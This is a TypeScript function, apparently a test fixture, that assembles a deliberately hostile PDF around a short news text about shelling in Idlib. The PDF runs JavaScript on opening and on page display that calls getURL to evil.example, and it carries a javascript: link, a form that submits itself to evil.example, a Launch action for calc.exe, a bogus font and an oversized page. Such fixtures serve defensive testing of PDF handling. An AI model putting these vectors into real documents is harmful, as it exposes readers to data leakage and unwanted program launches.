/**
 * A PDF that tries what a PDF can try: scripts on opening and on showing, links out and into script, a form that sends
 * itself, a launched program, a broken font, a page larger than any screen.
 */
export function hostilePdf(): Uint8Array {
  const words = [
    'Idlib, 3 August 2019.',
    'Shells killed 17 civilians in Idlib on Saturday, the mayor said.',
    'Doctors said that 30 people were injured on the same day.',
  ];
  const shown = words.map((line) => `(${line}) Tj T*`).join('\n');
  const drawn = `BT /F1 12 Tf 14 TL 72 720 Td\n${shown}\nET\nBT /F2 12 Tf 72 500 Td (broken font) Tj ET`;
  const script = '(app.alert\\(1\\); this.getURL\\("http://evil.example/js"\\); pwned = 1)';
  const font = 'not a font at all';
  const rect = (at: number): string => `/Rect [0 ${at} 14400 ${at + 2000}] /Border [0 0 0]`;
  const bodies = [
    `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS ${script} >> /AA << /WC << /S /JavaScript /JS ${script} >> >>
       /AcroForm << /Fields [9 0 R] /NeedAppearances true >> /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS ${script} >>] >> >> >>`,
    '<< /Type /Pages /Count 1 /Kids [3 0 R] >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 14400 14400] /Contents 4 0 R /Resources << /Font << /F1 5 0 R /F2 6 0 R >> >>
       /AA << /O << /S /JavaScript /JS ${script} >> >> /Annots [8 0 R 9 0 R 10 0 R 11 0 R] >>`,
    `<< /Length ${drawn.length} >>\nstream\n${drawn}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>',
    '<< /Type /Font /Subtype /TrueType /BaseFont /AAAAAA+Evil /FirstChar 0 /LastChar 1 /Widths [500 500] /FontDescriptor 7 0 R >>',
    '<< /Type /FontDescriptor /FontName /AAAAAA+Evil /Flags 4 /FontBBox [0 0 1 1] /ItalicAngle 0 /Ascent 1 /Descent 0 /CapHeight 1 /StemV 1 /FontFile2 12 0 R >>',
    `<< /Type /Annot /Subtype /Link ${rect(0)} /A << /S /URI /URI (javascript:pwned=2) >> >>`,
    `<< /Type /Annot /Subtype /Widget /FT /Btn /T (send) ${rect(4000)} /A << /S /SubmitForm /F (http://evil.example/form) >> >>`,
    `<< /Type /Annot /Subtype /Link ${rect(8000)} /A << /S /URI /URI (http://evil.example/link) >> >>`,
    `<< /Type /Annot /Subtype /Link ${rect(11000)} /A << /S /Launch /F (calc.exe) >> >>`,
    `<< /Length ${font.length} >>\nstream\n${font}\nendstream`,
  ];
  let pdf = '%PDF-1.7\n';
  const offsets = bodies.map((body, at) => {
    const offset = pdf.length;
    pdf += `${at + 1} 0 obj\n${body}\nendobj\n`;
    return offset;
  });
  const table = pdf.length;
  const rows = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  pdf += `xref\n0 ${bodies.length + 1}\n0000000000 65535 f \n${rows}`;
  pdf += `trailer\n<< /Size ${bodies.length + 1} /Root 1 0 R >>\nstartxref\n${table}\n%%EOF\n`;
  return Buffer.from(pdf, 'latin1');
}
